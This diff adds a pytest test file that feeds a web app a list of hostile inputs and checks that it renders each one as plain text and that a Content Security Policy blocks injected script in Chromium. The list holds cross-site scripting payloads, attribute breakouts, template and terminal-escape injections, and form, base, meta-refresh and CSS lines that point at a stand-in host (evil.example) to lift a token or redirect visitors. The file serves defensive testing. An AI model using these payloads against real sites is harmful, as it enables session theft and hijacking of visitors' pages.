@@ -1,0 +1,108 @@
+"""What was typed or pasted is shown as text, whatever it looks like: it makes no mark of a page."""
+
+from html.parser import HTMLParser
+
+import pytest
+from starlette.responses import HTMLResponse
+from starlette.routing import Route
+from starlette.testclient import TestClient
+
+from afterward.web.guard import Guard, Session
+from attacked import echo
+from browsers import BROWSER
+from visitors import Visitor
+
+HOSTILE = {
+    "a script": "<script>alert(1)</script>",
+    "a script behind a mark that closes": "</textarea></title><script>alert(1)</script>",
+    "a picture that fails": "<img src=x onerror=alert(1)>",
+    "a drawing": "<svg onload=alert(1)>",
+    "a way out of an attribute": '" autofocus onfocus="alert(1)',
+    "the same with the other mark": "' onmouseover='alert(1)",
+    "a link that runs": '<a href="javascript:alert(1)">x</a>',
+    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
+    "a form of its own": "</form><form action=http://evil.example><input name=token>",
+    "a base for links": "<base href=http://evil.example>",
+    "a page that reloads": '<meta http-equiv=refresh content="0;url=http://evil.example">',
+    "a style": "</style><style>@import url(http://evil.example)</style>",
+    "a template": "{{ 7 * 191 }}{% include 'base.html' %}",
+    "a comment and a block": "<!--><script>alert(1)//--><![CDATA[x]]>",
+    "marks in disguise": "&lt;script&gt;&#60;img src=x&#62;",
+    "letters that turn lines round": "\u202e<b>\u2066x\u2069",
+    "letters of a terminal": "\x1b]52;c;eA==\x07\x1b[2J",
+}
+PLAIN = "just tired"
+
+
+class Marks(HTMLParser):
+    """The marks of a page, in order, with the names of what they carry and where they lead."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.all, self.words = [], []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        kept = [(k, v if k in ("href", "src", "action") else "") for k, v in attrs]
+        self.all.append((tag, tuple(kept)))
+
+    def handle_comment(self, data):
+        self.all.append(("a comment", ()))
+
+    def handle_data(self, data):
+        self.words.append(data)
+
+
+def shown(typed):
+    """Return the first step and the page of an error, with a sentence in them."""
+    visitor = Visitor()
+    visitor.post("/now", feels=typed, exhaustion="4")
+    wrong = visitor.post("/example", example=typed)
+    assert wrong.status_code == 422
+    return visitor.get("/now").text, wrong.text
+
+
+@pytest.fixture(scope="module")
+def calm():
+    return [Marks(page).all for page in shown(PLAIN)]
+
+
+@pytest.mark.parametrize("typed", HOSTILE.values(), ids=HOSTILE)
+def test_it_makes_the_same_page_as_calm_words_do(calm, typed):
+    now, wrong = shown(typed)
+    assert [Marks(now).all, Marks(wrong).all] == calm
+    assert "1337" not in now + wrong
+    said = "".join(Marks(wrong).words)
+    assert typed[:15].strip() in said or "\x1b" in typed
+
+
+def test_the_test_would_see_a_mark_that_slipped_through(calm):
+    now, _ = shown(PLAIN)
+    assert Marks(now.replace(PLAIN, HOSTILE["a drawing"])).all != calm[0]
+
+
+@pytest.mark.browser
+@pytest.mark.skipif(BROWSER is None, reason="no Chromium: sudo apt-get install chromium")
+def test_a_script_that_slipped_through_would_not_run_either():
+    playwright = pytest.importorskip("playwright.sync_api")
+    slips = "<title>first</title><script>document.title = 'run'</script><img src=x onerror=run()>"
+
+    async def careless(_):
+        return HTMLResponse(slips + "<style>body { display: none }</style><p>words")
+
+    session = Session(port=8132)
+    app = Guard(echo(Route("/careless", careless)), session)
+    visitor = TestClient(app, base_url=f"http://127.0.0.1:{session.port}")
+    visitor.get("/open", params={"token": session.token})
+    answer = visitor.get("/careless")
+    with playwright.sync_playwright() as play:
+        browser = play.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
+        page = browser.new_page()
+        refused = []
+        page.on("console", lambda said: refused.append(said.text))
+        page.route("**/*", lambda way: way.fulfill(body=answer.text, headers=dict(answer.headers)))
+        page.goto("http://127.0.0.1:8132/careless")
+        assert page.title() == "first"
+        assert page.locator("p").is_visible()
+        browser.close()
+    assert any("Content Security Policy" in one for one in refused)
